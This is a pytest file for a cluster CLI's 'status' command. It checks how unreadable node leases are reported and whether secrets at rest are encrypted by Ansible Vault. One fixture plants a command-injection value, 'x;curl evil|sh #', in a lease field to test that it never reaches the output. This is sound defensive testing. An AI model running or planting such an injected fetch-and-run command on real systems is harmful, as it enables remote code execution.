"""`status` as a person calls it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from clustercheck.evidence.node import NodeEvidence
from clusterctl import main
from clusterctl.cluster import quarantine
from clusterctl.cluster.directory import ClusterDirectory
from clusterctl.commands import status
from clusterctl.rollout.inspection import status_of

READABLE = {"run": "r1", "what": "apply", "who": "anna", "where": "ctrl2", "since": "2026-01-01T00:00:00Z"}


def test_a_lease_that_cannot_be_read_is_not_that_of_a_run_to_release(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "hosts.yml").write_text(
        "gpu_nodes: {hosts: {gpu01: {ansible_host: 192.0.2.1}, gpu02: {ansible_host: 192.0.2.2}, "
        "gpu03: {ansible_host: 192.0.2.3}}}\n"
    )
    leases = {"gpu01": READABLE, "gpu02": dict.fromkeys(READABLE, "unknown")}  # as the probe says it
    leases["gpu03"] = {**READABLE, "run": "x;curl evil|sh #"}
    found = [
        status_of(NodeEvidence(name, {"probe": 1, "busy": {"lease": lease}}), None, wants_image=False)
        for name, lease in leases.items()
    ]
    monkeypatch.setattr(status, "inspect", lambda *_arguments, **_options: found)
    assert main.run(["-C", str(tmp_path), "status"]) == 0
    said = capsys.readouterr().out
    assert "Run r1 holds gpu01. If it has died: clusterctl leases release r1" in said
    assert "leases release unknown" not in said
    assert "curl" not in said
    assert "A lease that cannot be read holds gpu02, gpu03. Check that no run changes the host" in said
    assert "/root/.clusterctl/lease.json" in said


def output_of(root: Path, *options: str) -> str:
    done = CliRunner().invoke(main.cli, ["-C", str(root), "status", *options], standalone_mode=False)
    assert done.exception is None, done.exception
    assert done.return_value == 0
    return done.stdout


def test_how_secrets_are_kept_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("ANSIBLE_VAULT_PASSWORD_FILE", raising=False)
    monkeypatch.delenv("ANSIBLE_VAULT_IDENTITY_LIST", raising=False)
    (tmp_path / "hosts.yml").write_text("gpu_nodes:\n  hosts:\n    gpu01:\n      ansible_host: 192.0.2.1\n")
    directory = ClusterDirectory(tmp_path)
    directory.ensure_state()
    quarantine.put(directory, "gpu01", "test")
    plain = "plain files of mode 0600 (no vault password is configured)"
    assert f"secrets at rest: {plain}\n" in output_of(tmp_path)
    assert json.loads(output_of(tmp_path, "--json"))["secrets_at_rest"] == plain
    (tmp_path / "word").write_text("golden\n")
    (tmp_path / "word").chmod(0o600)
    monkeypatch.setenv("ANSIBLE_VAULT_PASSWORD_FILE", str(tmp_path / "word"))
    assert "secrets at rest: encrypted by Ansible Vault\n" in output_of(tmp_path)
